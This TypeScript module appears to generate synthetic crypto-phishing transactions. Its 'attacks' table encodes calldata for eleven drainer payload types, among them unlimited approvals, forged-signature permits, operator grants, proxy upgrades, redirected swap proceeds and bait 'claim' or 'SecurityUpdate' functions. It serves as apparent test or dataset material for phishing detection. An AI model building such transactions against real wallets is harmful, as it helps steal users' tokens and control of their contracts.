import { encodeAbiParameters, type Hex } from "viem";
import { freeOrders } from "./orders";
import { powers } from "./powers";
import { routes, take } from "./routers";
import {
  address,
  amount,
  at,
  type Call,
  type Cast,
  DAI,
  encode,
  MAX,
  MAX160,
  OPENSEA_HELPER,
  PERMIT2,
  pick,
  R,
  SIG,
  SOON,
  UNIVERSAL_ROUTER,
  USDC,
  USDT,
  V2_ROUTER,
  V3_ROUTER,
  WETH,
  words,
  ZERO_32,
} from "./support";

/**
 * `holder`: works only when the victim makes the call. `anyone`: works for any caller, by an existing allowance or
 * signature. `coin`: works by the native currency sent along.
 */
type Needs = "holder" | "anyone" | "coin";

interface Attack {
  name: string;
  needs: Needs;
  make(cast: Cast): Call;
}

const permit2 = [
  "struct PermitDetails { address token; uint160 amount; uint48 expiration; uint48 nonce; }",
  "struct PermitSingle { PermitDetails details; address spender; uint256 sigDeadline; }",
  "struct PermitBatch { PermitDetails[] details; address spender; uint256 sigDeadline; }",
  "struct TokenPermissions { address token; uint256 amount; }",
  "struct PermitTransferFrom { TokenPermissions permitted; uint256 nonce; uint256 deadline; }",
  "struct SignatureTransferDetails { address to; uint256 requestedAmount; }",
  "struct AllowanceTransferDetails { address from; address to; uint160 amount; address token; }",
];
const details = (token: Hex) => ({ token, amount: MAX160, expiration: 281_474_976_710_655, nonce: 0 });

const token = (next: () => number): Hex => pick(next, [USDC, USDT, DAI, address(next)]);
const some = (next: () => number) => pick(next, [MAX, MAX, 2n ** 255n, amount(next, 5_000_000, 18)]);
const ids = (next: () => number) => [1n, 2n, 3n].map((n) => n + BigInt(Math.floor(next() * 1_000)));
const nativeCurrency = (next: () => number) => BigInt(Math.floor((0.01 + next()) * 1e6)) * 10n ** 12n;

const holder = (name: string, make: Attack["make"]): Attack => ({ name, needs: "holder", make });
const anyone = (name: string, make: Attack["make"]): Attack => ({ name, needs: "anyone", make });
const bait = (name: string): Attack => ({
  name,
  needs: "coin",
  make: ({ other, next }) => at(other, encode(`${name}()`), nativeCurrency(next)),
});

const helper = [
  "struct TransferHelperItem { uint8 itemType; address token; uint256 identifier; uint256 amount; }",
  "struct TransferHelperItems { TransferHelperItem[] items; address recipient; bool validateERC721Receiver; }",
];

/** The eleven payload subtypes of PTXPHISH, each in the forms that it is met in. */
export const attacks: Record<string, Attack[]> = {
  approve: [
    holder("approve", ({ other, next }) => at(token(next), encode("approve(address,uint256)", [other, some(next)]))),
    holder("increaseAllowance", ({ other, next }) =>
      at(token(next), encode("increaseAllowance(address,uint256)", [other, some(next)])),
    ),
    holder("increaseApproval", ({ other, next }) =>
      at(token(next), encode("increaseApproval(address,uint256)", [other, some(next)])),
    ),
    holder("approveAndCall", ({ other, next }) =>
      at(token(next), encode("approveAndCall(address,uint256,bytes)", [other, some(next), "0x"])),
    ),
    holder("permit2 approve", ({ other, next }) =>
      at(PERMIT2, encode("approve(address,address,uint160,uint48)", [token(next), other, MAX160, 281_474_976_710_655])),
    ),
  ],
  permit: [
    anyone("permit", ({ victim, other, next }) =>
      at(
        token(next),
        encode("permit(address,address,uint256,uint256,uint8,bytes32,bytes32)", [
          victim,
          other,
          some(next),
          pick(next, [MAX, SOON]),
          27,
          R,
          R,
        ]),
      ),
    ),
    anyone("permit with bytes", ({ victim, other, next }) =>
      at(token(next), encode("permit(address,address,uint256,uint256,bytes)", [victim, other, some(next), SOON, SIG])),
    ),
    anyone("DAI permit", ({ victim, other }) =>
      at(
        DAI,
        encode("permit(address,address,uint256,uint256,bool,uint8,bytes32,bytes32)", [
          victim,
          other,
          0n,
          0n,
          true,
          27,
          R,
          R,
        ]),
      ),
    ),
    anyone("permit2 permit", ({ victim, other, next }) =>
      at(
        PERMIT2,
        encode(
          "permit(address,PermitSingle,bytes)",
          [victim, { details: details(token(next)), spender: other, sigDeadline: SOON }, SIG],
          permit2,
        ),
      ),
    ),
    anyone("permit2 batch", ({ victim, other, next }) =>
      at(
        PERMIT2,
        encode(
          "permit(address,PermitBatch,bytes)",
          [victim, { details: [details(USDC), details(token(next))], spender: other, sigDeadline: SOON }, SIG],
          permit2,
        ),
      ),
    ),
    anyone("permit2 transfer", ({ victim, other, next }) =>
      at(
        PERMIT2,
        encode(
          "permitTransferFrom(PermitTransferFrom,SignatureTransferDetails,address,bytes)",
          [
            { permitted: { token: token(next), amount: MAX }, nonce: 1n, deadline: SOON },
            { to: other, requestedAmount: amount(next, 10_000, 6) },
            victim,
            SIG,
          ],
          permit2,
        ),
      ),
    ),
    anyone("permitForAll", ({ victim, other, next }) =>
      at(
        address(next),
        encode("permitForAll(address,address,bool,uint256,uint256,bytes)", [victim, other, true, SOON, 1n, SIG]),
      ),
    ),
  ],
  setApprovalForAll: [
    holder("setApprovalForAll", ({ other, next }) =>
      at(address(next), encode("setApprovalForAll(address,bool)", [other, true])),
    ),
    holder("authorizeOperator", ({ other, next }) => at(address(next), encode("authorizeOperator(address)", [other]))),
    holder("setOperator", ({ other, next }) => at(address(next), encode("setOperator(address,bool)", [other, true]))),
  ],
  "bulk transfer": [
    holder("safeBatchTransferFrom", ({ victim, other, next }) =>
      at(
        address(next),
        encode("safeBatchTransferFrom(address,address,uint256[],uint256[],bytes)", [
          victim,
          other,
          ids(next),
          [1n, 1n, 2n],
          "0x",
        ]),
      ),
    ),
    holder("bulkTransfer", ({ other, next }) => {
      const items = ids(next).map((identifier) => ({ itemType: 2, token: address(next), identifier, amount: 1n }));
      const groups = [{ items: items.slice(0, pick(next, [1, 2, 3])), recipient: other, validateERC721Receiver: true }];
      return at(OPENSEA_HELPER, encode("bulkTransfer(TransferHelperItems[],bytes32)", [groups, ZERO_32], helper));
    }),
    anyone("transferFrom by allowance", ({ victim, other, next }) =>
      at(USDC, encode("transferFrom(address,address,uint256)", [victim, other, amount(next, 9_000, 6)])),
    ),
    anyone("permit2 transferFrom batch", ({ victim, other, next }) =>
      at(
        PERMIT2,
        encode(
          "transferFrom(AllowanceTransferDetails[])",
          [[USDC, DAI, USDT].map((each) => ({ from: victim, to: other, amount: amount(next, 100, 6), token: each }))],
          permit2,
        ),
      ),
    ),
  ],
  "proxy upgrade": [
    holder("upgradeTo", ({ other, next }) => at(address(next), encode("upgradeTo(address)", [other]))),
    holder("upgradeToAndCall", ({ other, next }) =>
      at(address(next), encode("upgradeToAndCall(address,bytes)", [other, encode("initialize()")])),
    ),
    holder("ProxyAdmin.upgrade", ({ other, next }) =>
      at(address(next), encode("upgrade(address,address)", [address(next), other])),
    ),
    holder("changeAdmin", ({ other, next }) => at(address(next), encode("changeAdmin(address)", [other]))),
    holder("transferOwnership", ({ other, next }) => at(address(next), encode("transferOwnership(address)", [other]))),
    holder("grantRole", ({ other, next }) => at(address(next), encode("grantRole(bytes32,address)", [ZERO_32, other]))),
    holder("enableModule", ({ other, next }) => at(address(next), encode("enableModule(address)", [other]))),
    holder("swapOwner", ({ other, victim, next }) =>
      at(
        address(next),
        encode("swapOwner(address,address,address)", ["0x0000000000000000000000000000000000000001", victim, other]),
      ),
    ),
  ],
  "say over positions": powers.map(({ name, make }) => holder(name, make)),
  "free order": [0, 1, 2, 3].map((form) =>
    holder(
      ["validate", "fulfillOrder", "fulfillAdvancedOrder", "matchOrders"][form]!,
      (cast) => freeOrders(cast, address(cast.next))[form]!,
    ),
  ),
  "zero-value": [
    anyone("transferFrom of nothing", ({ victim, other, next }) =>
      at(token(next), encode("transferFrom(address,address,uint256)", [victim, other, 0n])),
    ),
    anyone("transferFrom of nothing of others", ({ other, next }) =>
      at(USDC, encode("transferFrom(address,address,uint256)", [address(next), other, 0n])),
    ),
    holder("transfer of nothing", ({ other }) => at(USDT, encode("transfer(address,uint256)", [other, 0n]))),
  ],
  "fake token": [
    anyone("transferFrom in anybody's name", ({ other, next }) =>
      at(
        address(next),
        encode("transferFrom(address,address,uint256)", [address(next), other, amount(next, 5_000, 6)]),
      ),
    ),
  ],
  dust: [
    holder("dust of a token", ({ other, next }) =>
      at(pick(next, [USDC, USDT]), encode("transfer(address,uint256)", [other, BigInt(1 + Math.floor(next() * 900))])),
    ),
  ],
  "redirected proceeds": [
    holder("bridge or router", (cast) => take(pick(cast.next, routes), cast.other, cast)),
    holder("v2 swap", ({ other, next }) =>
      at(
        V2_ROUTER,
        encode("swapExactTokensForETH(uint256,uint256,address[],address,uint256)", [
          amount(next, 300, 6),
          1n,
          [USDC, WETH],
          other,
          SOON,
        ]),
      ),
    ),
    holder("v3 swap", ({ other, next }) =>
      at(
        V3_ROUTER,
        encode("exactInputSingle((address,address,uint24,address,uint256,uint256,uint160))", [
          [USDC, WETH, 500, other, amount(next, 300, 6), 1n, 0n],
        ]),
      ),
    ),
    holder("v3 sweep", ({ other }) => at(V3_ROUTER, encode("sweepToken(address,uint256,address)", [USDC, 1n, other]))),
    holder("universal router transfer", ({ other, next }) =>
      at(
        UNIVERSAL_ROUTER,
        encode("execute(bytes,bytes[],uint256)", [
          "0x02",
          [words(["address", "address", "uint160"], [USDC, other, amount(next, 300, 6)])],
          SOON,
        ]),
      ),
    ),
    holder("universal router permit", ({ other }) => {
      const permit = encodeAbiParameters(
        [
          {
            type: "tuple",
            components: [
              {
                name: "details",
                type: "tuple",
                components: [
                  { name: "token", type: "address" },
                  { name: "amount", type: "uint160" },
                  { name: "expiration", type: "uint48" },
                  { name: "nonce", type: "uint48" },
                ],
              },
              { name: "spender", type: "address" },
              { name: "sigDeadline", type: "uint256" },
            ],
          },
          { type: "bytes" },
        ],
        [{ details: details(USDC), spender: other, sigDeadline: SOON }, SIG] as never,
      );
      return at(UNIVERSAL_ROUTER, encode("execute(bytes,bytes[])", ["0x0a", [permit]]));
    }),
    holder("vault redeem", ({ victim, other, next }) =>
      at(address(next), encode("redeem(uint256,address,address)", [amount(next, 50, 18), other, victim])),
    ),
    holder("Aave withdraw", ({ other }) =>
      at("0x87870bca3f3fd6335c3f4ce8392d69350b4fa4e2", encode("withdraw(address,uint256,address)", [USDC, MAX, other])),
    ),
  ],
  "airdrop function": [
    "claim",
    "Claim",
    "claimReward",
    "claimRewards",
    "ClaimReward",
    "claimAirdrop",
    "airdrop",
    "mint",
    "redeem",
    "getReward",
    "redeemAirdrop",
    "ClaimRewards",
  ].map(bait),
  "wallet function": [
    "SecurityUpdate",
    "securityUpdate",
    "Connect",
    "connect",
    "connectWallet",
    "verify",
    "Verify",
    "WalletConnect",
    "NetworkMerge",
    "syncWallet",
    "rectify",
  ].map(bait),
};
